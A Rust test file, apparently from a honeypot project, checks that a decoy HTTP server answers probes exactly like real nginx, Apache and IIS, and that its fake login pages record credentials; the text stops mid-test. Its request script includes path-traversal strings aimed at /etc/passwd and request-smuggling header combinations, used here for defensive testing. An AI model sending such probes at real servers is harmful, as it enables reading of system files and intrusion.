//! The same script of requests, well-formed and not, to the decoy and to the real server: answers must be
//! equal byte for byte but for dates, entity tags and boundaries.
//!
//! The references are started here when their binaries are there, or taken from `DECNET_REFERENCE_NGINX`
//! and `DECNET_REFERENCE_APACHE` (host:port, document root with the index page of nginx, server name
//! `srv-test-01.corp.northwind-labs.net`). A missing one is a skip that says so, and a failure under
//! `DECNET_TEST_REQUIRE=all`.
#![allow(clippy::disallowed_methods, reason = "references and clients are processes of their own")]
#![allow(clippy::unwrap_used, reason = "a broken set-up should stop the test where it is")]
#![allow(clippy::print_stderr, reason = "a skip must be seen")]

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use decnet_core::identity::OsFamily;
use decnet_core::service::Port;
use decnet_logging::event::{Body, Outcome, Report};
use decnet_logging::sink::MemorySink;
use decnet_services::testing::{decky, host, identity, serve_on_loopback};

/// A decoy on loopback.
struct Decoy {
    plain: SocketAddr,
    tls: Option<SocketAddr>,
    sink: Arc<MemorySink>,
}

fn decoy(family: OsFamily, seed: u64, product: (&str, &str, &str), values: &[(&str, &str)]) -> Decoy {
    let (name, version, suffix) = product;
    let products = [("http", name, version, suffix)];
    let products = if name.is_empty() { &[][..] } else { &products[..] };
    let host = host(decky(identity(family, seed, products), seed, &[("http", values)]));
    let (ready, made) = std::sync::mpsc::channel();
    // The decoy lives on a thread of its own until the test's process ends.
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async move {
            let made: (BTreeMap<Port, SocketAddr>, _) = serve_on_loopback(&host, "http");
            ready.send(made).unwrap();
            std::future::pending::<()>().await;
        });
    });
    let (addresses, sink) = made.recv().unwrap();
    Decoy { plain: addresses[&Port::tcp(80)], tls: addresses.get(&Port::tls(443)).copied(), sink }
}

impl Decoy {
    /// Waits until a report satisfies the condition.
    fn wait(&self, what: &str, condition: impl Fn(&Report) -> bool) -> Report {
        let until = Instant::now() + Duration::from_secs(5);
        loop {
            if let Some(report) = self.sink.reports().into_iter().find(|report| condition(report)) {
                return report;
            }
            assert!(Instant::now() < until, "no {what} in {:?}", self.sink.reports());
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// The answer to bytes: what came, and whether the server closed.
fn ask(address: SocketAddr, bytes: &[u8], patience: Duration) -> (Vec<u8>, bool) {
    let mut stream = TcpStream::connect(address).unwrap();
    stream.set_read_timeout(Some(patience)).unwrap();
    // A server that refuses early may close before all is written.
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let mut buffer = [0u8; 65536];
    loop {
        match stream.read(&mut buffer) {
            Ok(0) => return (answer, true),
            Ok(read) => answer.extend_from_slice(&buffer[..read]),
            Err(error) if error.kind() == std::io::ErrorKind::ConnectionReset => return (answer, true),
            Err(_) => return (answer, false),
        }
    }
}

/// Status of the first answer.
fn status(answer: &[u8]) -> u16 {
    let text = String::from_utf8_lossy(answer);
    text.split(' ').nth(1).and_then(|word| word.parse().ok()).unwrap_or(0)
}

fn get(address: SocketAddr, target: &str) -> String {
    let request = format!("GET {target} HTTP/1.1\r\nHost: www.test\r\nConnection: close\r\n\r\n");
    String::from_utf8_lossy(&ask(address, request.as_bytes(), Duration::from_secs(5)).0).into_owned()
}

fn post(address: SocketAddr, target: &str, body: &str) -> String {
    let request = format!(
        "POST {target} HTTP/1.1\r\nHost: www.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    String::from_utf8_lossy(&ask(address, request.as_bytes(), Duration::from_secs(5)).0).into_owned()
}

/// The script: name and bytes. `/` is an HTML page on both sides, nothing else is there.
fn script() -> Vec<(&'static str, Vec<u8>)> {
    let host = "Host: a\r\n";
    let mut script: Vec<(&'static str, Vec<u8>)> = Vec::new();
    let mut add = |name: &'static str, text: String| script.push((name, text.into_bytes()));
    for (name, line) in [
        ("get", "GET / HTTP/1.1"),
        ("get 404", "GET /x HTTP/1.1"),
        ("unknown method", "AAAA / HTTP/1.1"),
        ("lower case method", "get / HTTP/1.1"),
        ("odd method", "G@T / HTTP/1.1"),
        ("version 1337", "GET / HTTP/1337"),
        ("version 2.0", "GET / HTTP/2.0"),
        ("version 1.2", "GET /x HTTP/1.2"),
        ("version 0.9", "GET /x HTTP/0.9"),
        ("lower case version", "GET /x http/1.1"),
        ("trace", "TRACE / HTTP/1.1"),
        ("options", "OPTIONS / HTTP/1.1"),
        ("options *", "OPTIONS * HTTP/1.1"),
        ("connect", "CONNECT a:443 HTTP/1.1"),
        ("delete", "DELETE / HTTP/1.1"),
        ("propfind", "PROPFIND / HTTP/1.1"),
        ("head", "HEAD / HTTP/1.1"),
        ("head 404", "HEAD /x HTTP/1.1"),
        ("space in target", "GET /a b HTTP/1.1"),
        ("two spaces", "GET  /x  HTTP/1.1"),
        ("no slash", "GET x HTTP/1.1"),
        ("absolute", "GET http://b.c/x HTTP/1.1"),
        ("traversal", "GET /../../etc/passwd HTTP/1.1"),
        ("encoded traversal", "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1"),
        ("apache traversal", "GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1"),
        ("double encoded", "GET /icons/.%%32%65/etc/passwd HTTP/1.1"),
        ("encoded slash", "GET /a%2fb HTTP/1.1"),
        ("bad escape", "GET /%zz HTTP/1.1"),
        ("encoded nul", "GET /a%00b HTTP/1.1"),
        ("markup", "GET /<b>'\"& HTTP/1.1"),
    ] {
        add(name, format!("{line}\r\n{host}\r\n"));
    }
    for (name, fields) in [
        ("no host", ""),
        ("empty host", "Host:\r\n"),
        ("bad host", "Host: a b\r\n"),
        ("slash in host", "Host: a/b\r\n"),
        ("two hosts", "Host: a\r\nHost: b\r\n"),
        ("close", "Host: a\r\nConnection: close\r\n"),
        ("keep-alive", "Host: a:81\r\nConnection: keep-alive\r\n"),
        ("no colon", "Host: a\r\nfoo\r\n"),
        ("blank in name", "Host: a\r\nfoo : b\r\n"),
        ("folded", "Host: a\r\nX-A: b\r\n c\r\n"),
        ("nul in value", "Host: a\r\nX-A: b\0c\r\n"),
        ("bare cr", "Host: a\r\nX: a\rb\r\n"),
        ("unknown range unit", "Host: a\r\nRange: foo\r\n"),
        (
            "chrome",
            "Host: a\r\nUser-Agent: Mozilla/5.0 (X11) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120 Safari/537.36\r\n",
        ),
        ("msie", "Host: a\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 8.0)\r\n"),
    ] {
        add(name, format!("GET /x HTTP/1.1\r\n{fields}\r\n"));
    }
    for (name, fields) in [
        ("range", "Range: bytes=0-9"),
        ("two ranges", "Range: bytes=0-9,20-29"),
        ("range outside", "Range: bytes=9999-"),
        ("last bytes", "Range: bytes=-5"),
        ("future date", "If-Modified-Since: Fri, 01 Jan 2038 00:00:00 GMT"),
        ("any tag", "If-None-Match: *"),
        ("other tag", "If-Match: \"zz\""),
        ("changed since", "If-Unmodified-Since: Fri, 01 Jan 1990 00:00:00 GMT"),
    ] {
        add(name, format!("GET / HTTP/1.1\r\n{host}{fields}\r\n\r\n"));
    }
    for (name, fields) in [
        ("put", "PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nab"),
        ("post to a file", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nab"),
        ("post 404", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\nab"),
        ("bad length", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n"),
        ("two lengths", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\na"),
        (
            "length and chunks",
            "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        ),
        ("chunks in 1.0", "POST /x HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
        ("unknown coding", "POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: foo\r\n\r\n"),
        (
            "chunks and another",
            "POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\nGET /y HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
        ),
        (
            "bad chunk",
            "POST /x HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nab\r\n0\r\n\r\n",
        ),
        ("large body", "POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 2000000\r\n\r\n"),
        ("expect", "POST /x HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\n"),
        (
            "expect something else",
            "POST /x HTTP/1.1\r\nHost: a\r\nExpect: foo\r\nContent-Length: 2\r\n\r\nab",
        ),
        ("pipeline", "GET /x HTTP/1.1\r\nHost: a\r\n\r\nGET /y HTTP/1.1\r\nHost: a\r\n\r\n"),
        (
            "kept three times",
            "GET /x HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n",
        ),
        ("1.0", "GET /x HTTP/1.0\r\n\r\n"),
        ("1.0 kept", "GET /x HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"),
        ("absolute without host", "GET http://b.c/x HTTP/1.1\r\n\r\n"),
        ("0.9", "GET /\r\n"),
        ("0.9 404", "GET /x\r\n"),
        ("0.9 post", "POST /\r\n"),
        ("line feeds", "GET /x HTTP/1.1\nHost: a\n\n"),
        ("blank lines first", "\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\n\r\n"),
        ("only blank lines", "\r\n\r\n"),
        ("zeros", "\0\u{1}\u{2}\u{3}\r\n\r\n"),
        ("help", "HELP\r\n"),
        ("ssh", "SSH-2.0-foo\r\n"),
        ("rtsp", "OPTIONS / RTSP/1.0\r\n\r\n"),
        ("sip", "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n"),
        ("nmap", "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n"),
    ] {
        add(name, fields.to_owned());
    }
    add("long target", format!("GET /{} HTTP/1.1\r\n{host}\r\n", "a".repeat(9000)));
    add("long field", format!("GET / HTTP/1.1\r\n{host}X-Y: {}\r\n\r\n", "a".repeat(9000)));
    let many: String = (0..120).map(|i| format!("X-{i}: 1\r\n")).collect();
    add("many fields", format!("GET /x HTTP/1.1\r\n{host}{many}\r\n"));
    let large: String = (0..8).map(|i| format!("X-{i}: {}\r\n", "a".repeat(6000))).collect();
    add("large head", format!("GET /x HTTP/1.1\r\n{host}{large}\r\n"));
    script.push(("tls", [&b"\x16\x03\x01\x00\x70\x01\x00\x00\x6c\x03\x03"[..], &[b'a'; 80]].concat()));
    script
}

/// What may differ: dates, entity tags, boundaries, the order of Allow, the body of the page at `/` where
/// it is the distribution's own.
fn mask(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer).into_owned();
    let mut out = String::new();
    for line in text.split_inclusive('\n') {
        let name = line.split(':').next().unwrap_or_default();
        let masked = match name {
            "Date" | "Last-Modified" => format!("{name}: *\r\n"),
            "ETag" => "ETag: *\r\n".to_owned(),
            // Boundaries are random numbers of one digit more or less.
            "Content-Length" if text.contains("boundary=") => "Content-Length: *\r\n".to_owned(),
            "Allow" if line.trim_end() == "Allow:" => line.to_owned(),
            "Allow" => {
                let mut methods: Vec<&str> =
                    line["Allow: ".len()..].trim_end().split(',').map(str::trim).collect();
                methods.sort_unstable();
                format!("Allow: {}\r\n", methods.join(","))
            }
            "Content-Type" if line.contains("boundary=") => {
                format!("{}boundary=*\r\n", line.split("boundary=").next().unwrap_or_default())
            }
            _ if line.starts_with("--") && line.trim_end().len() > 10 => {
                let end = if line.trim_end().ends_with("--") { "--" } else { "" };
                format!("--*{end}\r\n")
            }
            _ => line.to_owned(),
        };
        out.push_str(&masked);
    }
    out
}

/// Runs the script on both and lists where they differ.
fn compare(
    decoy: SocketAddr,
    reference: SocketAddr,
    skip: &[&str],
    map: impl Fn(String) -> String,
) -> Vec<String> {
    let patience = Duration::from_millis(400);
    script()
        .into_iter()
        .filter(|(name, _)| !skip.contains(name))
        .filter_map(|(name, bytes)| {
            let (real, real_closed) = ask(reference, &bytes, patience);
            let (ours, our_closed) = ask(decoy, &bytes, patience);
            let (real, ours) = (map(mask(&real)), map(mask(&ours)));
            (real != ours || real_closed != our_closed).then(|| {
                format!(
                    "--- {name}\nreal (closed: {real_closed}):\n{}\nours (closed: {our_closed}):\n{}\n",
                    real.escape_debug().to_string().replace("\\n", "\n"),
                    ours.escape_debug().to_string().replace("\\n", "\n"),
                )
            })
        })
        .collect()
}

/// A server of its own, ended with the test.
struct Reference {
    address: SocketAddr,
    tls: Option<SocketAddr>,
    version: String,
    process: Option<Child>,
    directory: Option<PathBuf>,
}

impl Drop for Reference {
    fn drop(&mut self) {
        if let Some(process) = &mut self.process {
            let _ = process.kill();
            let _ = process.wait();
        }
        if let Some(directory) = &self.directory {
            let _ = std::fs::remove_dir_all(directory);
        }
    }
}

fn skip(what: &str) {
    assert_ne!(std::env::var("DECNET_TEST_REQUIRE").as_deref(), Ok("all"), "{what} is required");
    eprintln!("SKIPPED: {what} is not here");
}

fn from_environment(name: &str) -> Option<SocketAddr> {
    std::env::var(name).ok().map(|value| value.parse().expect("host:port"))
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn workplace(name: &str) -> PathBuf {
    let directory = std::env::temp_dir().join(format!("{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&directory);
    for part in ["html", "logs", "tmp"] {
        std::fs::create_dir_all(directory.join(part)).unwrap();
    }
    std::fs::write(directory.join("html/index.html"), include_str!("../src/http/pages/nginx.html")).unwrap();
    directory
}

fn await_server(address: SocketAddr, process: &mut Child) {
    let until = Instant::now() + Duration::from_secs(10);
    while TcpStream::connect(address).is_err() {
        assert!(process.try_wait().unwrap().is_none(), "the reference did not start");
        assert!(Instant::now() < until, "the reference does not listen");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn certificate(directory: &Path) -> bool {
    Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "30",
            "-subj",
            "/CN=reference",
            "-keyout",
        ])
        .arg(directory.join("key.pem"))
        .arg("-out")
        .arg(directory.join("cert.pem"))
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|status| status.success())
}

fn version_of(binary: &str) -> Option<String> {
    let output = Command::new(binary).arg("-v").output().ok()?;
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    let at = text.find('/')?;
    Some(text[at + 1..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect())
}

fn nginx() -> Option<Reference> {
    if let Some(address) = from_environment("DECNET_REFERENCE_NGINX") {
        let answer = get(address, "/");
        let version =
            answer.split("nginx/").nth(1)?.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
        return Some(Reference { address, tls: None, version, process: None, directory: None });
    }
    let version = version_of("/usr/sbin/nginx")?;
    let directory = workplace("reference-nginx");
    let (plain, tls) = (free_port(), free_port());
    let secure = if certificate(&directory) {
        format!(
            "server {{ listen 127.0.0.1:{tls} ssl; ssl_certificate cert.pem; ssl_certificate_key key.pem; root html; }}"
        )
    } else {
        String::new()
    };
    let config = format!(
        "daemon off; master_process off; worker_processes 1; error_log logs/error.log; pid logs/pid;\n\
         events {{ worker_connections 128; }}\n\
         http {{ types {{ text/html html; }} default_type application/octet-stream; access_log off; gzip on;\n\
         client_body_temp_path tmp/b; proxy_temp_path tmp/p; fastcgi_temp_path tmp/f; uwsgi_temp_path tmp/u; scgi_temp_path tmp/s;\n\
         server {{ listen 127.0.0.1:{plain}; root html; index index.html; server_name _; location / {{ try_files $uri $uri/ =404; }} }}\n{secure} }}\n"
    );
    std::fs::write(directory.join("nginx.conf"), config).unwrap();
    let mut process = Command::new("/usr/sbin/nginx")
        .arg("-p")
        .arg(format!("{}/", directory.display()))
        .args(["-c", "nginx.conf"])
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    let address = SocketAddr::from(([127, 0, 0, 1], plain));
    await_server(address, &mut process);
    let tls = (!secure.is_empty()).then(|| SocketAddr::from(([127, 0, 0, 1], tls)));
    Some(Reference { address, tls, version, process: Some(process), directory: Some(directory) })
}

fn apache() -> Option<Reference> {
    if let Some(address) = from_environment("DECNET_REFERENCE_APACHE") {
        let answer = get(address, "/");
        let version =
            answer.split("Apache/").nth(1)?.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
        return Some(Reference { address, tls: None, version, process: None, directory: None });
    }
    let version = version_of("/usr/sbin/apache2")?;
    let directory = workplace("reference-apache");
    let (plain, tls) = (free_port(), free_port());
    let secure = certificate(&directory);
    let mut config = format!(
        "ServerRoot {}\nUser www-data\nGroup www-data\nPidFile logs/pid\nErrorLog logs/error.log\nServerName srv-test-01.corp.northwind-labs.net\n",
        directory.display()
    );
    for module in ["mpm_event", "authz_core", "dir", "mime", "filter", "deflate", "setenvif", "reqtimeout"] {
        config.push_str(&format!("LoadModule {module}_module /usr/lib/apache2/modules/mod_{module}.so\n"));
    }
    if secure {
        config.push_str("LoadModule ssl_module /usr/lib/apache2/modules/mod_ssl.so\n");
        config.push_str(&format!("Listen 127.0.0.1:{tls}\n"));
    }
    config.push_str(&format!(
        "Listen 127.0.0.1:{plain}\nServerTokens OS\nServerSignature On\nTraceEnable Off\nKeepAlive On\nMaxKeepAliveRequests 100\nKeepAliveTimeout 5\n\
         RequestReadTimeout header=20-40,minrate=500 body=10,minrate=500\nTypesConfig /dev/null\nAddType text/html .html\nDirectoryIndex index.html\n\
         AddOutputFilterByType DEFLATE text/html text/plain text/xml text/css\nDocumentRoot {0}/html\n<Directory {0}/html>\nRequire all granted\n</Directory>\n",
        directory.display()
    ));
    if secure {
        config.push_str(&format!("<VirtualHost 127.0.0.1:{tls}>\nServerName srv-test-01.corp.northwind-labs.net:{tls}\nSSLEngine on\nSSLCertificateFile cert.pem\nSSLCertificateKeyFile key.pem\nDocumentRoot {}/html\n</VirtualHost>\n", directory.display()));
    }
    std::fs::write(directory.join("apache.conf"), config).unwrap();
    let mut process = Command::new("/usr/sbin/apache2")
        .arg("-X")
        .arg("-f")
        .arg(directory.join("apache.conf"))
        .stderr(Stdio::null())
        .spawn()
        .ok()?;
    let address = SocketAddr::from(([127, 0, 0, 1], plain));
    await_server(address, &mut process);
    let tls = secure.then(|| SocketAddr::from(([127, 0, 0, 1], tls)));
    Some(Reference { address, tls, version, process: Some(process), directory: Some(directory) })
}

#[test]
fn nginx_answers_as_the_real_one() {
    let Some(reference) = nginx() else { return skip("nginx") };
    let decoy =
        decoy(OsFamily::Linux, 1, ("nginx", &reference.version, ""), &[("fake_app", "nginx_default")]);
    let differences = compare(decoy.plain, reference.address, &[], |text| text);
    assert!(differences.is_empty(), "{} differences\n{}", differences.len(), differences.concat());
    if let (Some(ours), Some(real)) = (decoy.tls, reference.tls) {
        for probe in [
            &b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"[..],
            b"GET /x HTTP/1.0\r\n\r\n",
            b"foo\r\n\r\n",
            b"GET /\r\n",
        ] {
            let (real, ours) =
                (ask(real, probe, Duration::from_secs(1)), ask(ours, probe, Duration::from_secs(1)));
            assert_eq!(mask(&real.0), mask(&ours.0));
            assert_eq!(real.1, ours.1);
        }
    }
}

#[test]
fn apache_answers_as_the_real_one() {
    let Some(reference) = apache() else { return skip("apache2") };
    // The decoy's page at `/` is Debian's own; the same one as the reference's is put in its place.
    let page = include_str!("../src/http/pages/nginx.html");
    let decoy = decoy(
        OsFamily::Linux,
        1,
        ("apache", &reference.version, "Debian"),
        &[("fake_app", "apache_default"), ("custom_body", page)],
    );
    let differences = compare(decoy.plain, reference.address, &[], |text| text);
    assert!(differences.is_empty(), "{} differences\n{}", differences.len(), differences.concat());
    if let (Some(ours), Some(real)) = (decoy.tls, reference.tls) {
        for probe in [
            &b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"[..],
            b"GET /x HTTP/1.0\r\n\r\n",
            b"foo\r\n\r\n",
            b"GET /\r\n",
        ] {
            let (answer, real_closed) = ask(real, probe, Duration::from_secs(1));
            let (ours, our_closed) = ask(ours, probe, Duration::from_secs(1));
            let length = |text: String| {
                // The port in the signature is the listener's; ours is the declared one.
                let text = text.replace(&format!("Port {}", real.port()), "Port 443");
                text.split_inclusive('\n')
                    .filter(|line| !line.starts_with("Content-Length"))
                    .collect::<String>()
            };
            assert_eq!(length(mask(&answer)), length(mask(&ours)));
            assert_eq!(real_closed, our_closed);
        }
    }
}

/// The table of the service book: what each product answers to each probe.
#[test]
fn the_probe_table_holds() {
    let nginx = decoy(OsFamily::Linux, 2, ("nginx", "1.22.1", ""), &[]);
    let apache = decoy(OsFamily::Linux, 3, ("apache", "2.4.62", "Debian"), &[]);
    let red_hat = decoy(
        OsFamily::Linux,
        3,
        ("", "", ""),
        &[("server_header", "Apache/2.4.58 (Unix)"), ("fake_app", "apache_default")],
    );
    let iis = decoy(OsFamily::Windows, 4, ("iis", "10.0", ""), &[]);
    let long_target = format!("GET /{} HTTP/1.1\r\nHost: a\r\n\r\n", "a".repeat(9000));
    let long_field = format!("GET / HTTP/1.1\r\nHost: a\r\nX: {}\r\n\r\n", "a".repeat(17_000));
    // Probe, nginx, Apache, IIS.
    let table: &[(&str, u16, u16, u16)] = &[
        ("AAAA / HTTP/1.1\r\nHost: a\r\n\r\n", 405, 501, 405),
        ("GET / HTTP/1337\r\nHost: a\r\n\r\n", 505, 400, 400),
        ("GET / HTTP/3.0\r\nHost: a\r\n\r\n", 505, 200, 505),
        ("GET / HTTP/1.1\r\n\r\n", 400, 400, 400),
        // Debian turns TRACE off; the upstream default is asked below.
        ("TRACE / HTTP/1.1\r\nHost: a\r\n\r\n", 405, 405, 501),
        ("OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n", 405, 200, 200),
        (&long_target, 414, 414, 404),
        (&long_field, 400, 400, 400),
    ];
    for (probe, for_nginx, for_apache, for_iis) in table {
        let patience = Duration::from_millis(400);
        for (decoy, expected, name) in
            [(&nginx, for_nginx, "nginx"), (&apache, for_apache, "apache"), (&iis, for_iis, "iis")]
        {
            let (answer, _) = ask(decoy.plain, probe.as_bytes(), patience);
            let shown: String = probe.chars().take(40).collect();
            assert_eq!(status(&answer), *expected, "{name}: {shown}: {}", String::from_utf8_lossy(&answer));
            assert!(answer.len() > 100, "{name}: a short answer to {shown}");
        }
    }
    let patience = Duration::from_millis(400);
    let text = |decoy: &Decoy, probe: &str| {
        String::from_utf8_lossy(&ask(decoy.plain, probe.as_bytes(), patience).0).into_owned()
    };
    // HTTP/0.9: the body alone, or http.sys's refusal.
    assert!(text(&nginx, "GET /\r\n").starts_with("<!DOCTYPE html>"));
    assert!(text(&apache, "GET /\r\n").starts_with("<!DOCTYPE html"));
    assert!(text(&iis, "GET /\r\n\r\n").starts_with("HTTP/1.1 400 Bad Request"));
    let trace = text(&red_hat, "TRACE / HTTP/1.1\r\nHost: a\r\nX-A: b\r\n\r\n");
    assert!(
        trace.starts_with("HTTP/1.1 200 OK") && trace.contains("message/http") && trace.contains("X-A: b"),
        "{trace}"
    );
    let unknown = text(&apache, "AAAA / HTTP/1.1\r\nHost: a\r\n\r\n");
    assert!(unknown.contains("\r\nAllow: ") && unknown.contains("//IETF//DTD HTML 2.0//EN"), "{unknown}");
    let options = text(&iis, "OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n");
    assert!(
        options.contains("Allow: OPTIONS, TRACE, GET, HEAD, POST") && options.contains("Public: "),
        "{options}"
    );
    let nameless = text(&iis, "GET / HTTP/1.1\r\n\r\n");
    assert!(
        nameless.contains("Invalid Hostname") && nameless.contains("Server: Microsoft-HTTPAPI/2.0"),
        "{nameless}"
    );
    assert!(text(&iis, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n").contains("Content-Length: 1245\r\n"));
    // Plain HTTP on the TLS port.
    let request = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n";
    let on_tls =
        |decoy: &Decoy| String::from_utf8_lossy(&ask(decoy.tls.unwrap(), request, patience).0).into_owned();
    assert!(on_tls(&nginx).contains("The plain HTTP request was sent to HTTPS port"));
    assert!(on_tls(&apache).contains("speaking plain HTTP to an SSL-enabled server port"));
    assert_eq!(on_tls(&iis), "");
}

#[test]
fn an_internet_information_server_has_its_order_of_fields() {
    let iis = decoy(OsFamily::Windows, 5, ("iis", "10.0", ""), &[]);
    let answer = get(iis.plain, "/");
    let names: Vec<&str> = answer
        .split("\r\n\r\n")
        .next()
        .unwrap()
        .lines()
        .skip(1)
        .map(|line| line.split(':').next().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "Content-Type",
            "Last-Modified",
            "Accept-Ranges",
            "ETag",
            "Server",
            "X-Powered-By",
            "Date",
            "Connection",
            "Content-Length"
        ]
    );
    assert!(answer.contains("<title>IIS Windows Server</title>"));
}

/// Each application: its server, where its login is, the form, and what it says to a wrong password.
#[test]
fn every_login_captures_and_refuses() {
    let linux = ("apache", "2.4.62", "Debian");
    /// Family, application, product, path, form, what the refusal and the page hold.
    type Case = (
        OsFamily,
        &'static str,
        (&'static str, &'static str, &'static str),
        &'static str,
        &'static str,
        &'static str,
        &'static str,
    );
    let cases: &[Case] = &[
        (
            OsFamily::Linux,
            "wordpress",
            linux,
            "/wp-login.php",
            "log=admin&pwd=Winter2026%21",
            "is not registered on this site",
            "name=\"log\"",
        ),
        (
            OsFamily::Linux,
            "phpmyadmin",
            ("nginx", "1.18.0", "Ubuntu"),
            "/phpmyadmin/index.php",
            "pma_username=admin&pma_password=Winter2026%21",
            "(HY000/1045): Access denied for user &#039;admin&#039;@&#039;localhost&#039; (using password: YES)",
            "set_session",
        ),
        (
            OsFamily::Linux,
            "jenkins",
            ("nginx", "1.22.1", ""),
            "/j_spring_security_check",
            "j_username=admin&j_password=Winter2026%21",
            "/loginError",
            "",
        ),
        (
            OsFamily::Linux,
            "gitlab",
            ("nginx", "-", ""),
            "/users/sign_in",
            "user%5Blogin%5D=admin&user%5Bpassword%5D=Winter2026%21",
            "Invalid login or password.",
            "csrf-token",
        ),
        (
            OsFamily::Windows,
            "owa",
            ("iis", "10.0", ""),
            "/owa/auth.owa",
            "username=admin&password=Winter2026%21",
            "reason=2",
            "",
        ),
        (
            OsFamily::Embedded,
            "printer",
            ("debut", "1.30", ""),
            "/general/status.html",
            "password=Winter2026%21",
            "password is incorrect",
            "Serial no.",
        ),
        (
            OsFamily::Embedded,
            "router",
            ("uhttpd", "1.0", ""),
            "/cgi-bin/luci/",
            "luci_username=admin&luci_password=Winter2026%21",
            "Invalid username and/or password",
            "Authorization Required",
        ),
    ];
    for (family, app, product, path, form, refusal, page_holds) in cases {
        let decoy = decoy(*family, 6, *product, &[("fake_app", app)]);
        let page = get(decoy.plain, path);
        assert!(page.contains(page_holds), "{app}: {page}");
        let began = Instant::now();
        let answer = post(decoy.plain, path, form);
        let took = began.elapsed();
        assert!(answer.contains(refusal), "{app}: {answer}");
        assert!(took >= Duration::from_millis(290) && took < Duration::from_millis(2500), "{app}: {took:?}");
        let report = decoy.wait("login", |report| matches!(&report.body, Body::AuthAttempt { .. }));
        let Body::AuthAttempt { credential, outcome } = report.body else { unreachable!() };
        assert_eq!(outcome, Outcome::Failed);
        assert_eq!(credential.username, "admin", "{app}");
        assert_eq!(credential.password.as_deref(), Some("Winter2026!"), "{app}");
        decoy.wait("request", |report| {
            matches!(&report.body, Body::Request { method, body_len, .. } if method == "POST" && *body_len == Some(form.len() as u64))
        });
    }
}

#[test]
fn the_manager_of_tomcat_asks_and_refuses() {
    let decoy = decoy(
        OsFamily::Linux,
        7,
        ("apache", "2.4.62", "Debian"),
        &[("fake_app", "tomcat"), ("app_version", "9.0.99")],
    );
    assert!(get(decoy.plain, "/").contains("<title>Apache Tomcat/9.0.99</title>"));
    assert!(get(decoy.plain, "/nothing").contains("<h3>Apache Tomcat/9.0.99</h3>"));
    assert!(
        get(decoy.plain, "/manager/html")
            .contains("WWW-Authenticate: Basic realm=\"Tomcat Manager Application\"")
    );
    let request = b"GET /manager/html HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\nConnection: close\r\n\r\n";
    assert_eq!(status(&ask(decoy.plain, request, Duration::from_secs(5)).0), 401);
    decoy.wait("login", |report| {
        matches!(&report.body, Body::AuthAttempt { credential, .. }
            if credential.username == "tomcat" && credential.password.as_deref() == Some("s3cret") && credential.method == "basic")
    });
}

#[test]
fn wordpress_is_one_site() {
    let decoy = decoy(
        OsFamily::Linux,
        8,
        ("apache", "2.4.62", "Debian"),
        &[("fake_app", "wordpress"), ("app_version", "6.7.1"), ("site_title", "Harbour & Sons")],
    );
    let home = get(decoy.plain, "/");
    assert!(home.contains("<meta name=\"generator\" content=\"WordPress 6.7.1\" />"), "{home}");
    assert!(home.contains("<title>Harbour &amp; Sons</title>"), "{home}");
    let users = get(decoy.plain, "/wp-json/wp/v2/users");
    let name = users.split("\"slug\":\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
